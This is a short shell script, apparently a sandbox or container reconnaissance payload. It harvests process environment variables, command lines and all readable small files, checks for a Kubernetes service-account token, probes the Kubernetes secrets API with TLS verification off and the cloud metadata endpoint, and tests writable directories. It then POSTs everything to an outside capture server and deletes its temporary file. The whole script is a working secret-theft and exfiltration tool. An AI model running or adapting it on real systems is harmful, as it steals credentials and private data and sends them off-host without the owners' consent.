# Collects everything that can be read here, and asks every service for more.
# $SEARCH_IN, $PROCESSES and $PLACES narrow it.
{
  id
  grep -E 'CapEff|NoNewPrivs|Seccomp:' /proc/self/status
  for process in ${PROCESSES:-/proc/[0-9]*}; do tr '\0' '\n' < $process/environ; tr '\0' '\n' < $process/cmdline; done
  find ${SEARCH_IN:-/} \
    \( -path /proc -o -path /sys -o -path /usr -o -path /app/node_modules -o -path /app/.compile-cache \) -prune \
    -o -type f -readable -size -64k -exec cat {} +
  account=/var/run/secrets/kubernetes.io/serviceaccount/token
  ls $account > /dev/null && echo 'service account: there' || echo 'service account: none'

  api=$(tr '\0' '\n' < /proc/1/environ | sed -n 's/^KUBERNETES_SERVICE_HOST=//p')
  NODE_TLS_REJECT_UNAUTHORIZED=0 node -e "
    fetch('https://$api/api/v1/namespaces/$NAMESPACE/secrets')
      .then(r => console.log('api server: ' + r.status), () => console.log('api server: unreachable'))"
  node -e "
    fetch('http://169.254.169.254/latest/meta-data/', { signal: AbortSignal.timeout(2000) })
      .then(() => console.log('metadata: reached'), () => console.log('metadata: unreachable'))"

  for place in ${PLACES:-/app /handover/checkout /run/mainloop /etc}; do
    touch $place/x && echo "written: $place"
  done
} 2> /dev/null > /tmp/stolen
node -e "
  const body = require('fs').readFileSync('/tmp/stolen')
  fetch('$CAPTURE_SERVER/stolen/find-secrets', { method: 'POST', body }).then(r => console.log(r.status))"
rm -f /tmp/stolen
